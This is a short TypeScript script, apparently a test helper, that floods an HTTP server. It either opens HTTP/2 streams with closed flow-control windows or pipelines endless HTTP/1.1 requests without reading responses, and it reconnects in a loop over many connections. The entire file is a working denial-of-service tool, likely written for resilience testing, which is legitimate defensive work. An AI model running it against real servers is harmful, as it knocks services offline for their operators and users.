// A client process that sends many requests and reads nothing: attack.ts PORT HOST KIND CONNECTIONS.
import { requestFrame, rawClient } from "../../helpers/http2-frames.ts";
import { shakeHands } from "../../helpers/tls-client.ts";

const [port = "", host = "", kind = "", connections = "40"] = process.argv.slice(2);
const PATH = "/manage/v1/openapi.json";
const AGAIN_MS = 20;

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  /** Opens a hundred streams with closed windows, and reconnects after disconnections. */
  streams: async () => {
    const client = await rawClient(Number(port), host, 0);
    for (let index = 0; index < 100; index++) {
      client.socket.write(requestFrame(1 + 2 * index, host, PATH));
    }
    await client.closed;
  },
  /** Pipelines requests endlessly. */
  pipelining: async () => {
    const socket = await shakeHands(Number(port), { serverName: host });
    const requests = `GET ${PATH} HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(100);
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.on("error", () => undefined);
    socket.pause();
    const send = (): void => {
      while (!socket.destroyed && socket.write(requests));
    };
    socket.on("drain", send);
    send();
    await closed;
  },
};

const attack = attacks[kind];
if (attack === undefined) throw new Error(`There is no attack ${kind}.`);
const persist = async (): Promise<never> => {
  for (;;) {
    await attack().catch(() => undefined);
    await Bun.sleep(AGAIN_MS);
  }
};
console.log("begun");
await Promise.all(Array.from({ length: Number(connections) }, persist));
